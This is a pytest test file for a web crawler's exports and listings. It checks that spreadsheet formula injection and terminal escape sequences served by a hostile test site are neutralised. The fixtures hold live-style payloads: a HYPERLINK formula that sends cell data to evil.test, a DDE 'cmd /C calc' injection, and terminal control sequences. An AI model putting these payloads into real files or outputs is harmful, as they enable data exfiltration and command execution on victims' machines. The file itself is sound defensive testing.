"""What hostile pages leave in the results, and what it does to people who read them: OU-01 and OU-02."""

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest

from gossamer.reports.export.formats import harmless
from tests.hostile.small_crawl import SmallCrawl
from tests.integration.crawl_process import gossamer
from tests.integration.small_server import Answer, SmallServer

pytestmark = pytest.mark.service

ESCAPES = "\x1b]0;owned\x07 \x1b[2J \x9b31m \x7f \u202e"
HOME = f"""<!DOCTYPE html><title>=HYPERLINK("http://evil.test/?"&amp;A1)</title>
<a href="/b">+cmd|' /C calc'!A0</a> <a href="/c">-2+3</a> <a href="/d">{ESCAPES}</a> <a href="/e"> @SUM(1)</a>
<p>{"=1+1 is what this page says, and it says it in more than a few words. " * 5}</p>"""


def answer(body: str, **headers: str) -> Answer:
    fields = {"Content-Type": "text/html; charset=utf-8", **{n.replace("_", "-"): v for n, v in headers.items()}}
    return Answer(headers=fields, octets=body.encode())


def test_ou_01_and_02_no_output_has_formulas_or_control_characters(tmp_path: Path) -> None:
    crawl = SmallCrawl(tmp_path)
    site = {
        "/": answer(HOME),
        "/b": Answer("", 302, {"Location": "/x\x1b[31m\x7f"}),
        "/c": answer("<title>c</title>", Content_Type="text/html\x1b[2J; charset=\x1b]0;owned\x07"),
        "/d": answer("<title>d</title>", Content_Encoding="x\x1b[2Jy"),
        "/e": answer(f"<title>{ESCAPES}</title><p>{ESCAPES}", ETag='"\x1b[2J"', Content_Language="\x1b[2J"),
    }
    with SmallServer(site) as server:
        crawl.run(server.base + "/")
        urls = [server.base + path for path in site]
    where = ["--dir", crawl.dir]
    listings: list[list[object]] = [["pages"], ["hosts"], ["dead"], ["status"], ["verify"]]
    listings += [["explain", url] for url in urls]
    shown = [gossamer(*command, *where, *form) for command in listings for form in ([], ["--json"])]
    shown += [gossamer("export", *where, "--what", what) for what in ("pages", "links", "text", "graph")]
    tables = [gossamer("export", *where, "--what", what, "--format", "csv") for what in ("pages", "links", "text")]

    for ended in (*shown, *tables):
        text = ended.out.replace("\r\n", "\n") + ended.err
        assert {c for c in text if unicodedata.category(c) in ("Cc", "Cf")} <= {"\n", "\t"}, text
    cells = [cell for ended in tables for row in csv.reader(io.StringIO(ended.out)) for cell in row]
    # A negative priority is a number, which a spreadsheet does not calculate.
    assert [cell for cell in cells if re.match(r"\s*[=+@\t\r-]", cell) and not re.fullmatch(r"-\d+\.\d+", cell)] == []
    assert {"'-2+3", "'+cmd|' /C calc'!A0"} <= set(cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells) and any("\\x1b]0;owned\\x07" in cell for cell in cells)

    raw = gossamer("export", *where, "--what", "links", "--format", "csv", "--raw").out
    assert "+cmd|" in {cell[:5] for row in csv.reader(io.StringIO(raw)) for cell in row} and "\x1b[2J" in raw
    assert "--raw: requires --format csv, not jsonl" in gossamer("export", *where, "--raw").err


def test_ou_01_whatever_a_spreadsheet_calculates_gets_an_apostrophe_and_numbers_do_not() -> None:
    live = ["=1", "+1", "-1", "@A", "\t=1", "\r=1", "\n=1", "  =1", "\ufeff=1", "\uff1d1", "\uff0b1", "\uff0d1", "-"]
    plain: list[str | float | None] = ["", "a=1", "1-1", "http://a.test/?=1", "'=1", "\u2013 dash", -1, 2.5, True, None]

    assert [str(harmless(value))[:1] for value in live] == ["'"] * len(live)
    assert [harmless(value) for value in plain] == plain
